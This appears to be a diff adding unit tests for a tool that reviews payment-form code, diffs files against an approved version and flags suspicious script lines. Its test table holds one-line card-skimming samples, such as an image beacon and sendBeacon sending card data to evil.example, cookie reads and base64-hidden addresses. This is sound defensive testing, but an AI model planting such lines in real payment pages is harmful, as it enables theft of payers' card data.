@@ -1,0 +1,84 @@
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { contentDigest, type FormContent, readCode } from './form-code.ts'
+
+const form = (files: Readonly<Record<string, string>>, template = '<p>Pay</p>'): FormContent => ({
+  template,
+  files: Object.entries(files).map(([path, text]) => ({ path, content: Buffer.from(text) })),
+})
+
+test('a reviewer reads the text of every file, and of what is no text its size and digest', () => {
+  const [page, picture, script] = readCode(form({ 'img/a.png': '\u0000', 'js/a.js': 'begin()\n' }), null)
+  assert.deepEqual([page?.path, page?.text, page?.change], ['index.html', '<p>Pay</p>', null])
+  assert.deepEqual([picture?.text, picture?.bytes, picture?.sha256.length], [null, 1, 64])
+  assert.equal(script?.text, 'begin()\n')
+})
+
+test('against the approved version files are added, removed, changed line by line, or the same', () => {
+  const approved = form({ 'js/a.js': 'one\ntwo\n', 'js/gone.js': 'bye\n', 'js/same.js': 'same\n' })
+  const read = readCode(form({ 'js/a.js': 'one\n2\n', 'js/new.js': 'hello\n', 'js/same.js': 'same\n' }), approved)
+  assert.deepEqual(
+    read.map(({ path, change }) => [path, change]),
+    [
+      ['index.html', 'same'],
+      ['js/a.js', 'changed'],
+      ['js/new.js', 'added'],
+      ['js/same.js', 'same'],
+      ['js/gone.js', 'removed'],
+    ],
+  )
+  assert.deepEqual(
+    read[1]?.diff?.map(({ kind, text }) => [kind, text]),
+    [
+      ['same', 'one'],
+      ['removed', 'two'],
+      ['added', '2'],
+    ],
+  )
+})
+
+test('the digest changes with any byte and with any name, and not with the order of files', () => {
+  const digest = contentDigest(form({ 'js/a.js': 'a', 'js/b.js': 'b' }))
+  assert.equal(contentDigest(form({ 'js/b.js': 'b', 'js/a.js': 'a' })), digest)
+  const others = [
+    form({ 'js/a.js': 'a', 'js/b.js': 'B' }),
+    form({ 'js/a.js': 'a', 'js/c.js': 'b' }),
+    form({ 'js/a.js': 'a', 'js/b.js': 'b' }, '<p>pay</p>'),
+  ]
+  assert.equal(new Set([digest, ...others.map(contentDigest)]).size, 4)
+})
+
+// biome-ignore format: a table is read in columns.
+const suspicious = [
+  ["fetch('/admin/api/session')",                        /panel.*calls an address/],
+  ["new Image().src = 'https://evil.example/?' + number", /another address/],
+  ["const u = '//evil.example'",                         /another address/],
+  ['eval(text)',                                         /code of text/],
+  ["setTimeout('steal()', 1)",                           /code of text/],
+  ['document.cookie',                                    /cookies/],
+  ['localStorage.setItem(a, b)',                         /in the browser/],
+  ["navigator.sendBeacon(u, card)",                      /calls an address/],
+  ["document.createElement('iframe')",                   /frame/],
+  ["atob('aHR0cHM6Ly8=')",                               /hides text/],
+  ["window['fetch'](u)",                                 /hides a name/],
+  ["find('payer_card').value",                           /card data/],
+  ['x'.repeat(2000),                                     /too long/],
+] as const
+
+for (const [line, told] of suspicious)
+  test(`a reviewer is told of the line: ${line.slice(0, 60)}`, () => {
+    const [, script] = readCode(form({ 'js/a.js': `begin()\n${line}\n` }), null)
+    assert.deepEqual(
+      script?.findings.map(({ path, line: at }) => [path, at]),
+      [['js/a.js', 2]],
+    )
+    assert.match(script?.findings[0]?.text ?? '', told)
+  })
+
+test('plain code has no findings', () => {
+  const [, script] = readCode(
+    form({ 'js/a.js': "const say = (text) => {\n  find('notice').textContent = text\n}\n" }),
+    null,
+  )
+  assert.deepEqual(script?.findings, [])
+})
